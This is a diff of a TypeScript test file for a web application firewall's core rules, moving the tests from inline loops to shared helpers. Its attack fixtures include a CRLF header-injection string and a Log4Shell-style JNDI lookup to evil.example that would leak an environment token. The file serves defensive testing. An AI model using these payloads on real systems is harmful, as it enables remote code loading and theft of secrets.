@@ -1,10 +1,5 @@
-import assert from 'node:assert/strict'
-import { test } from 'node:test'
-import { createWaf } from './engine/create-waf.ts'
+import { testAttacks, testHarmless } from './core-testing.ts'
 import type { TestRequest } from './engine/testing.ts'
-import { ask } from './engine/testing.ts'
-
-const { waf } = await createWaf({ rules: ['core'], settings: { budget: Number.POSITIVE_INFINITY } })
 
 const json = { 'Content-Type': 'application/json' }
 
@@ -48,11 +43,7 @@ const harmless: readonly (readonly [string, TestRequest])[] = [
   ['a program below a folder of scripts', { target: '/repos/ada/site/contents/scripts/build.sh' }],
 ]
 
-for (const [what, request] of harmless)
-  test(`${what} passes`, () => {
-    assert.ok(waf)
-    assert.deepEqual(ask(waf, request).ids, [])
-  })
+testHarmless(harmless)
 
 const attacks: readonly (readonly [string, number, string])[] = [
   ['a field behind a line break', 2084, 'x\r\nSet-Cookie: a=b'],
@@ -67,10 +58,10 @@ const attacks: readonly (readonly [string, number, string])[] = [
   ['a lookup among lines', 2065, 'a: 1\nb: ${jndi:ldap://evil.example/${env:STORE_TOKEN}}'],
 ]
 
-for (const [what, id, text] of attacks)
-  test(`${what} is found by rule ${id}`, () => {
-    assert.ok(waf)
-    const { ids, verdict } = ask(waf, { method: 'POST', headers: json, body: JSON.stringify({ text }) })
-    assert.ok(ids.includes(id), ids.join(' '))
-    assert.equal(verdict.kind, 'block')
-  })
+testAttacks(
+  attacks.map(([what, id, text]) => [
+    what,
+    id,
+    { method: 'POST', headers: json, body: JSON.stringify({ text }) },
+  ]),
+)
